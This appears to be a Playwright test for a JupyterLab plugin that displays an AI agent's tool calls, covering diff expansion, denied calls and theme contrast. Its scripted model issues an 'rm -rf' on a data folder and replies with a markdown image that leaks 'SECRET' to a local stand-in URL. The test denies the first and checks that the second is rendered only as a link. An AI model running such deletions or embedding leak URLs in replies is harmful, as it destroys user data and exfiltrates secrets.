"""Issue 18 (points 4, 5, 9) in JupyterLab: a reviewable diff with "Show the whole diff", a
denied call shown as denied, and every card readable in the dark and the light theme.

The real CLI runs in the notebook's kernel against this test's scripted model; Allow, Deny
and "Show the whole diff" are real clicks. Screenshots go to ``artifacts/screenshots/cards-*``;
with ``KANDEV_NB_UPDATE_DOCS=1`` they are also copied to ``docs/screenshots/``.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from kandev_nb.testing import Reply, ScriptedModelServer, text, tool_use
from tests.browser import lab_page
from tests.browser.conftest import DOCS_SCREENSHOTS, LabServer
from tests.kernel.conftest import setup_code

pytestmark = pytest.mark.timeout(420)

OLD = "".join(f"    total_{i} = compute(values[{i}], scale=1.0)\n" for i in range(360))
NEW = "".join(f"    total_{i} = compute(values[{i}], scale=2.5)\n" for i in range(360))

_LUMA = """el => {
  if (!el.isConnected) return null;  // replaced by a newer rendering of its card since it was found
  const pick = (node) => { for (let n = node; n; n = n.parentElement) {
      const c = getComputedStyle(n).backgroundColor;
      if (c && c !== 'rgba(0, 0, 0, 0)' && c !== 'transparent') return c; }
    return 'rgb(255, 255, 255)'; };
  const rgb = (c) => c.match(/[\\d.]+/g).slice(0, 3).map(Number);
  const lum = ([r, g, b]) => (0.2126 * r + 0.7152 * g + 0.0722 * b) / 255;
  return {bg: lum(rgb(pick(el))), fg: lum(rgb(getComputedStyle(el).color))};
}"""


def _theme(page: Any, name: str) -> None:
    lab_page.command(page, "apputils:change-theme", {"theme": name})
    want = "false" if name == "JupyterLab Dark" else "true"
    page.wait_for_function(f"() => document.body.dataset.jpThemeLight === '{want}'", timeout=60_000)
    page.wait_for_timeout(500)  # let the new theme's stylesheet apply before a screenshot


def _readable(page: Any, locator: Any, dark: bool) -> None:
    """The block's background follows the theme and its text contrasts with it.

    A live card's HTML can be set again between finding the block and reading its colours (a
    detached element has no computed colour), so the block is found again until it is read.
    """
    for _ in range(20):
        got = locator.first.evaluate(_LUMA)
        if got is not None:
            break
        page.wait_for_timeout(100)
    assert got is not None, "the block never stayed on the page long enough to be read"
    assert (got["bg"] < 0.35) if dark else (got["bg"] > 0.75), got
    assert abs(got["bg"] - got["fg"]) > 0.4, got


def test_diff_denial_and_both_themes_in_jupyterlab(
    jupyter_lab: LabServer,
    page: Any,
    scripted_model: ScriptedModelServer,
    claude_env: dict[str, str],
    claude_workdir: Path,
    screenshots: Path,
) -> None:
    target = claude_workdir / "calc.py"
    target.write_text("def totals(values):\n" + OLD)
    scripted_model.push(
        Reply(
            text("I'll change the scale."),
            tool_use("Edit", {"file_path": str(target), "old_string": OLD, "new_string": NEW}),
        ),
        Reply(
            tool_use("Bash", {"command": "echo checked; echo 'warning: slow' >&2; exit 3", "description": "Check it"})
        ),
        Reply(tool_use("Bash", {"command": f"rm -rf {claude_workdir / 'data'}", "description": "Delete raw data"})),
        Reply(
            text(
                "Done. The scale is now 2.5:\n\n```python\ntotal = compute(values, scale=2.5)\n```\n\n"
                "![chart](http://127.0.0.1:9/leak?k=SECRET)\n"
            )
        ),
    )
    lab_page.write_notebook(
        jupyter_lab.root / "cards.ipynb", setup_code(claude_env, claude_workdir), "%%claude\nScale the totals by 2.5"
    )
    lab_page.open_notebook(page, jupyter_lab.notebook_url("cards.ipynb"))
    _theme(page, "JupyterLab Dark")
    lab_page.command(page, "notebook:run-all-cells")
    claude_cell = lab_page.cell(page, 1)

    # 18.5: the edit waits for approval; its card offers the whole diff
    edit_card = claude_cell.locator(".kandev-tool-card.kandev-kind-modify_file")
    show = edit_card.locator("button.kandev-show-all")
    show.wait_for(state="visible", timeout=120_000)
    expect(show).to_have_text("Show the whole diff")
    assert edit_card.locator(".kandev-diff-del").count() < 360
    claude_cell.evaluate("el => el.scrollIntoView({block: 'start'})")
    page.screenshot(path=str(screenshots / "cards-1-live-diff-dark.png"))
    show.click()
    expect(edit_card.locator(".kandev-diff-del")).to_have_count(360)
    expect(edit_card.locator(".kandev-diff-add")).to_have_count(360)
    _readable(page, edit_card.locator("pre.kandev-diff"), dark=True)

    claude_cell.locator(".kandev-approval button.kandev-allow").first.click()
    approvals = claude_cell.locator(".kandev-approval")
    expect(approvals).to_have_count(2, timeout=120_000)
    approvals.nth(1).locator("button.kandev-allow").click()
    expect(approvals).to_have_count(3, timeout=120_000)
    expect(approvals.nth(2)).to_contain_text("rm -rf")
    deny = approvals.nth(2).locator("button.kandev-deny")
    deny.click()
    lab_page.wait_cell_done(page, 1)
    assert target.read_text() == "def totals(values):\n" + NEW

    # the finished (= saved) rendering
    output = claude_cell.locator(".jp-OutputArea-output").first
    expect(output).to_contain_text("Done. The scale is now 2.5")
    denied = output.locator("details.kandev-tool-card.kandev-status-denied")
    expect(denied).to_have_count(1)
    expect(denied).to_contain_text("denied by you")
    expect(denied).to_contain_text("Not run")
    expect(denied).not_to_contain_text("exit")
    assert output.locator("img").count() == 0  # the remote image is a link
    expect(output.locator("a.kandev-image-link")).to_have_count(1)
    expect(output.locator("details.kandev-kind-modify_file").first).to_have_attribute("open", "")  # 28.11: open
    whole = output.locator("details.kandev-whole-diff")
    expect(whole).to_have_count(1)
    whole.locator("summary").click()
    expect(whole.locator(".kandev-diff-del")).to_have_count(360)
    whole.locator("summary").click()
    for dark in (True, False):
        if not dark:
            _theme(page, "JupyterLab Light")
        for selector in ("pre.kandev-code", "pre.kandev-stderr", "pre.kandev-diff", ".kandev-footer"):
            _readable(page, output.locator(selector), dark=dark)
        if dark:
            output.locator("details.kandev-kind-modify_file > summary").first.click()  # fold the long diff
        claude_cell.evaluate("el => el.scrollIntoView({block: 'start'})")
        page.screenshot(path=str(screenshots / f"cards-{2 if dark else 3}-finished-{'dark' if dark else 'light'}.png"))

    if os.environ.get("KANDEV_NB_UPDATE_DOCS") == "1":
        DOCS_SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        for path in sorted(screenshots.glob("cards-*.png")):
            shutil.copy(path, DOCS_SCREENSHOTS / path.name)
